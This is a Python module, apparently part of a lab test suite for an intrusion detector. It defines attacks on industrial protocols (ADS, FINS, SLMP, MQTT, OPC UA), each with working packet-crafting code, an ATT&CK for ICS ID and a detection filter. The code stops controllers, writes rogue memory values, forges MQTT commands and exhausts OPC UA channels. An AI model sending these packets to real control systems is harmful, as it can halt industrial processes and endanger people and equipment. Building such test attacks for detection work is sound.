"""Attacks by ADS (Beckhoff), FINS (Omron W342), SLMP (Mitsubishi), OPC UA and MQTT."""

from __future__ import annotations

import socket
import struct
import time
from collections.abc import Callable

from tests.lab.attacks import wire
from tests.lab.attacks.attack import Aim, Attack

_FROM = " && ip.src == {source} && ip.dst == {target}"
_STOP_STATE = 6
_WRITE_CONTROL, _WRITE = 5, 3


def _ads(command: int, data: bytes) -> Callable[[Aim], None]:
    def act(aim: Aim) -> None:
        to, sender = (socket.inet_aton(a) + b"\1\1" for a in (aim.address, aim.source.ip))
        head = to + struct.pack("<H", 851) + sender + struct.pack("<H", 30000)
        body = head + struct.pack("<HHIII", command, 4, len(data), 0, 0x5347) + data
        wire.tcp(aim, struct.pack("<HI", 0, len(body)) + body)

    return act


def _ads_write(aim: Aim) -> None:
    data = struct.pack("<IIIh", aim.number("group"), 4, 2, 32767)
    _ads(_WRITE, data)(aim)


def _fins(command: bytes, data: bytes) -> Callable[[Aim], None]:
    return lambda aim: wire.udp(aim, b"\x80\0\2\0\0\0\0\1\0\x53" + command + data)


def _slmp(command: int, data: bytes) -> Callable[[Aim], None]:
    body = struct.pack("<HHH", 4, command, 0) + data
    head = b"\x50\0\0\xff\xff\x03\0" + struct.pack("<H", len(body))
    return lambda aim: wire.tcp(aim, head + body)


def _mqtt(*packets: bytes) -> Callable[[Aim], None]:
    name = b"\0\x08intruder"
    connect = b"\0\4MQTT\4\2\0\x3c" + name
    opening = bytes([0x10, len(connect)]) + connect
    return lambda aim: wire.tcp(aim, opening, *packets, answers=False)


def _publish(topic: bytes, value: bytes) -> bytes:
    body = len(topic).to_bytes(2) + topic + value
    return bytes([0x30, len(body)]) + body


def _opcua_hello(aim: Aim) -> None:
    """Opens one channel after the other and leaves them (part 6, 7.1.2)."""
    url = f"opc.tcp://{aim.address}:{aim.service.port}/".encode()
    body = struct.pack("<5I", 0, 65535, 65535, 0, 0) + struct.pack("<I", len(url)) + url
    hello = b"HELF" + struct.pack("<I", 8 + len(body)) + body
    for _ in range(8):
        wire.tcp(aim, hello, answers=False)
        time.sleep(0.05)


ATTACKS = (
    Attack(
        "ads controller stopped",
        "Sets the controller's state to stop",
        "ads",
        ("T0858",),
        "engineering operation",
        "ams.cmdid == 5" + _FROM,
        _ads(_WRITE_CONTROL, struct.pack("<HHI", _STOP_STATE, 0, 0)),
    ),
    Attack(
        "ads value out of range",
        "Writes the largest number where about 100 is usual",
        "ads",
        ("T0836",),
        "value",
        "ams.cmdid == 3 && frame contains ff:7f" + _FROM,
        _ads_write,
    ),
    Attack(
        "fins controller stopped",
        "Sets the controller to program mode",
        "fins",
        ("T0858",),
        "engineering operation",
        "omron.command == 0x0402" + _FROM,
        _fins(b"\x04\x02", b""),
    ),
    Attack(
        "fins memory written",
        "Writes data memory that nobody writes",
        "fins",
        ("T0836",),
        "new operation",
        "omron.command == 0x0102 && frame contains 7f:ff" + _FROM,
        _fins(b"\x01\x02", b"\x82\0\x0a\0\0\1\x7f\xff"),
    ),
    Attack(
        "slmp controller stopped",
        "Remote stop, forced",
        "slmp",
        ("T0858",),
        "engineering operation",
        "tcp.payload contains 04:00:02:10:00:00" + _FROM,
        _slmp(0x1002, b"\3\0"),
    ),
    Attack(
        "slmp memory written",
        "Writes word devices that nobody writes",
        "slmp",
        ("T0836",),
        "new operation",
        "tcp.payload contains 01:14:00:00:0a:00:00:a8" + _FROM,
        _slmp(0x1401, b"\x0a\0\0\xa8\1\0\xff\x7f"),
    ),
    Attack(
        "mqtt everything heard",
        "Subscribes to all topics",
        "mqtt",
        ("T0801",),
        "new operation",
        'mqtt.msgtype == 8 && mqtt.topic == "#"' + _FROM,
        _mqtt(b"\x82\6\0\1\0\1#\0"),
    ),
    Attack(
        "mqtt command published",
        "Publishes a command to an edge node as if it were the host",
        "mqtt",
        ("T0855",),
        "new operation",
        'mqtt.msgtype == 3 && mqtt.topic contains "NCMD"' + _FROM,
        _mqtt(_publish(b"spBv1.0/plant/NCMD/edge", b"\x08\1\x18\0")),
    ),
    Attack(
        "opc ua channels opened",
        "Opens and leaves eight channels",
        "opcua",
        ("T0814",),
        "timing",
        'opcua.transport.type == "HEL"' + _FROM,
        _opcua_hello,
    ),
)
